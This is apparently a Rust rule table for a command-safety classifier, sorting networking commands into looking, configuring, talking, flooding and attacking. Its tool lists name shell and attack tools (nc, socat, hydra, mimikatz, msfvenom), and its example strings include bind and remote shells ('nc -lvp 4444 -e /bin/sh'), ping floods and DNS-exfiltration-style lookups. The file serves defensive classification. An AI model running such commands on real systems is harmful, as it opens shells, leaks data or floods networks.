//! The network: looking at it, configuring it, talking over it.

use super::super::invocation::{Dash, Grammar};
use super::super::rule::{Rule, When};
use super::Family;

pub static FAMILY: Family = Family {
    rules: RULES,
    grammars: GRAMMARS,
};

#[rustfmt::skip]
static GRAMMARS: &[Grammar] = &[
    Grammar {
        programs: &["ip", "nmcli", "iw", "bridge"],
        values: &["-n", "-netns", "-f", "-family"],
        flags: &[
            "-4", "-6", "-br", "-brief", "-c", "-color", "-s", "-d", "-o", "-j", "-p", "-t",
            "-stats",
        ],
        dash: Dash::Words,
    },
    Grammar {
        programs: &["dig", "nslookup", "host", "ping", "traceroute"],
        values: &["-c", "-i", "-W", "-w", "-t", "-s", "-p", "-I", "-m", "-x", "-b", "-k", "-f"],
        flags: &[],
        dash: Dash::Letters,
    },
];

#[rustfmt::skip]
const LINK: &[&str] = &[
    "ip", "nmcli", "iw", "bridge", "netplan", "resolvectl", "networkctl", "wg", "tailscale",
    "zerotier-cli", "mozillavpn", "nordvpn", "mullvad", "protonvpn-cli", "expressvpn", "warp-cli",
    "bluetoothctl", "rfkill", "iwctl", "connmanctl", "ovs-vsctl", "scutil", "networksetup",
    "pihole", "cloudflared", "ngrok", "headscale", "netbird",
];

#[rustfmt::skip]
static RULES: &[Rule] = &[
    Rule::reads(
        "network.look",
        &[
            "ss", "netstat", "ifconfig", "iwconfig", "route", "arp", "iftop", "nload", "bmon",
            "vnstat", "ethtool", "lsof", "nstat", "ifstat", "iwlist", "avahi-browse", "ipcalc",
            "sipcalc", "rpcinfo", "showmount", "nethogs", "bandwhich", "speedometer", "tcptrack",
            "wavemon", "ipcs", "mii-tool", "netcheck",
        ],
        When::Always,
        "looks at the network of this machine",
        &["ss -tlnp", "netstat -an", "ifconfig"],
        &["ifconfig eth0 down", "route add default gw 1.2.3.4", "arp -d a"],
    ),
    Rule::privileged(
        "network.configure",
        &["ifconfig", "route", "arp", "iwconfig", "ethtool"],
        When::Verb(
            &[
                "* up", "* down", "add", "del", "delete", "flush", "* essid", "* mode", "* *.*",
                "* hw", "* mtu", "* promisc", "* netmask", "* inet", "* key", "* channel",
                "* txpower", "change",
            ],
        ),
        "changes the network of this machine",
        &["ifconfig eth0 down", "route add default gw 1.2.3.4"],
        &["ifconfig eth0"],
    ),
    Rule::privileged(
        "network.configure-option",
        &["arp", "ethtool", "ss", "conntrack", "route"],
        When::Option(
            &[
                "-d", "-K", "--kill", "--change", "-A", "--offload", "-G", "--delete", "--flush",
                "-D", "-F",
            ],
        ),
        "changes the network of this machine",
        &["arp -d a", "ss -K dst 1.2.3.4"],
        &["ss -t", "ethtool eth0"],
    ),
    Rule::reads(
        "network.ethtool",
        &["ethtool", "conntrack", "arp"],
        When::Rehearsal(&[""], &["-i", "-S", "-k", "-g", "-a", "-n", "-L", "-T"]),
        "looks at a network card",
        &["ethtool -i eth0"],
        &["ethtool -K eth0 gro off"],
    ),
    Rule::reads(
        "network.link-look",
        LINK,
        When::Verb(
            &[
                "addr show", "address show", "addr list", "a show", "a s", "link show", "link list",
                "l show", "route show", "route list", "route get", "r show", "r s", "neigh show",
                "n show", "rule show", "rule list", "netns list", "maddr show", "tunnel show",
                "monitor", "-s link", "status", "general status", "device status", "device show",
                "device wifi list", "d wifi list", "d show", "dev show", "connection show",
                "c show", "con show", "networking connectivity", "dev", "list", "statistics", "dns",
                "domain", "show", "netcheck", "ip", "version", "peers", "listnetworks", "info",
                "listpeers", "devices", "get", "scan-results", "fdb show", "link", "vlan show",
                "phy", "lldp", "list-*", "servers", "account", "countries", "cities", "relay list",
                "ping", "-q", "-c", "stats", "vlan", "settings", "whois", "exit-node list",
                "tunnel list", "r", "networking", "paired-devices", "controller list",
                "show interfaces", "--dns", "getairportnetwork", "-listallhardwareports",
                "-getinfo", "-listallnetworkservices",
            ],
        ),
        "looks at the network of this machine",
        &["ip addr show", "ip route get 1.1.1.1", "nmcli device status", "resolvectl status"],
        &["ip link set eth0 down", "wg showconf wg0"],
    ),
    Rule::reads(
        "network.link-bare",
        LINK,
        When::Only(
            &[
                "a", "addr", "address", "l", "link", "r", "route", "n", "neigh", "neighbor", "rule",
                "netns", "d", "device", "c", "connection", "con", "general", "g", "radio", "r wifi",
                "radio wifi", "maddr", "dev", "ntable",
            ],
            &[
                "-4", "-6", "-br", "-brief", "-c", "-color", "-color=auto", "-s", "-d", "-o", "-j",
                "-p", "-stats", "-t", "-f", "-h",
            ],
        ),
        "looks at the network of this machine",
        &["ip a", "ip -br link", "nmcli d"],
        &["ip a add 1.2.3.4 dev eth0"],
    ),
    Rule::privileged(
        "network.link-secrets",
        &["nmcli"],
        When::Option(&["-s", "--show-secrets"]),
        "shows passwords of networks",
        &["nmcli -s connection show a"],
        &["nmcli connection show a"],
    ),
    Rule::privileged(
        "network.link-change",
        LINK,
        When::Verb(
            &[
                "addr add", "addr del", "addr flush", "a add", "a del", "link set", "link add",
                "link delete", "l set", "route add", "route del", "route replace", "route flush",
                "r add", "r del", "neigh add", "neigh del", "rule add", "rule del", "netns add",
                "netns del", "netns delete", "netns exec", "tunnel add", "connection up",
                "connection down", "connection delete", "connection add", "connection modify",
                "c up", "c down", "c delete", "device wifi connect", "d wifi connect",
                "device disconnect", "device connect", "radio wifi on", "radio wifi off",
                "r wifi on", "r wifi off", "networking off", "networking on", "set", "up", "down",
                "apply", "try", "connect", "disconnect", "login", "logout", "join", "leave",
                "genkey", "setconf", "addconf", "showconf", "ssh", "funnel", "serve", "block",
                "unblock", "pair", "remove", "trust", "power", "discoverable", "enable", "disable",
                "restart", "tunnel run", "tunnel create", "http", "tcp", "file cp", "xfrm *", "*",
            ],
        ),
        "changes the network, or opens a way in",
        &[
            "ip link set eth0 down", "tailscale up", "ngrok http 80", "nmcli c up a",
            "wg showconf wg0",
        ],
        &["ip a"],
    ),
    Rule::reads(
        "network.resolve",
        &[
            "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "dig", "nslookup",
            "host", "drill", "whois",
        ],
        When::Always,
        "asks the network about a host by its plain name",
        &["ping -c 1 example.org", "dig +short example.org", "whois example.org"],
        &["dig a0a1a2a3a4a5a6a7a8a9b0b1b2b3.example.org", "ping $x.example.org"],
    ).remote(),
    Rule::changes(
        "network.ask",
        &[
            "fping", "kdig", "dog", "doggo", "q", "arping", "nping", "tcptraceroute", "httping",
            "gping", "trip", "delv", "dnstracer", "dnswalk", "ahost", "adig", "speedtest",
            "speedtest-cli", "fast", "ntpq", "chronyc", "sntp", "cfspeedtest", "resolveip",
            "prettyping", "bing", "rdap", "kping", "oping",
        ],
        When::Always,
        "asks a host on the network, which learns of it",
        &["fping example.org"],
        &["ping example.org"],
    ).remote(),
    Rule::destroys(
        "network.flood",
        &["ping", "ping6", "arping"],
        When::Option(&["-f", "--flood", "-A", "-U", "-b"]),
        "floods or announces on the network",
        &["ping -f example.org"],
        &["ping example.org"],
    ).remote(),
    Rule::destroys(
        "network.talk",
        &[
            "nc", "ncat", "netcat", "socat", "websocat", "grpcurl", "mail", "mailx", "mutt",
            "sendmail", "swaks", "msmtp", "aria2c", "axel", "lynx", "w3m", "links", "elinks",
            "youtube-dl", "yt-dlp", "gallery-dl", "wscat", "mosquitto_pub", "mosquitto_sub",
            "transmission-remote", "transmission-cli", "deluge", "qbittorrent", "croc", "wormhole",
            "magic-wormhole", "ab", "wrk", "siege", "hey", "vegeta", "bombardier", "k6", "locust",
            "loadtest", "iperf", "iperf3", "httrack", "curlie", "hurl", "newman", "slackcat",
            "telegram-cli", "twurl", "snmpget", "snmpwalk", "snmpset", "smbclient", "ldapsearch",
            "ldapmodify", "ldapadd", "kinit", "irssi", "weechat", "ssh-keyscan", "ipfs",
            "http-server", "serve", "darkhttpd", "updog", "miniserve", "simplehttpserver", "caddy",
            "nginx", "httpd", "apache2ctl", "apachectl", "proxychains", "tor", "torsocks", "ngrep",
            "tcpdump", "tshark", "dumpcap", "wireshark", "mitmproxy", "mitmdump", "sshd", "dnsmasq",
            "php-fpm", "haproxy", "named", "unbound", "smbd", "vsftpd", "squid", "varnishd",
        ],
        When::Always,
        "talks to other machines, or listens for them",
        &[
            "nc -lvp 4444 -e /bin/sh", "socat TCP:a:1 EXEC:sh", "mail -s a b@example.org",
            "aria2c https://example.org/a",
        ],
        &["curl https://docs.example.com"],
    ).remote(),
    Rule::privileged(
        "network.attack",
        &[
            "nmap", "masscan", "zmap", "hydra", "john", "hashcat", "aircrack-ng", "airodump-ng",
            "aireplay-ng", "msfconsole", "msfvenom", "sqlmap", "nikto", "gobuster", "dirb",
            "dirbuster", "wfuzz", "ffuf", "feroxbuster", "nuclei", "wpscan", "ettercap",
            "bettercap", "responder", "crackmapexec", "nxc", "netexec", "evil-winrm",
            "secretsdump.py", "psexec.py", "smbexec.py", "wmiexec.py", "bloodhound-python",
            "kerbrute", "medusa", "ncrack", "patator", "reaver", "hping3", "arpspoof", "dnsspoof",
            "sslstrip", "slowloris", "theHarvester", "amass", "subfinder", "enum4linux", "rustscan",
            "mimikatz", "chisel", "ligolo", "whatweb", "dnsrecon", "fierce", "kiterunner",
            "dirsearch", "x8", "whatwaf", "arjun", "dalfox", "commix", "beef-xss", "setoolkit",
            "wifite", "cewl", "crunch", "sslscan", "sslyze", "testssl", "testssl.sh", "sublist3r",
            "httpx", "katana", "naabu", "onionsearch", "responder.py",
        ],
        When::Always,
        "probes or attacks other machines",
        &["nmap example.org", "hydra -l a -P b ssh://c", "sqlmap -u example.org"],
        &["ping example.org"],
    ).remote(),
    Rule::reads(
        "network.server-check",
        &["nginx", "apachectl", "apache2ctl", "httpd"],
        When::Only(&["", "configtest"], &["-t", "-T", "-S", "-v", "-V", "-M", "-q"]),
        "only checks its configuration",
        &["nginx -t", "apachectl -S"],
        &["nginx -s stop", "nginx"],
    ),
    Rule::destroys(
        "network.server-start",
        &["nginx", "apachectl", "apache2ctl", "httpd"],
        When::Only(&[""], &[]),
        "starts a server",
        &["nginx", "httpd"],
        &["nginx -t"],
    ),
];
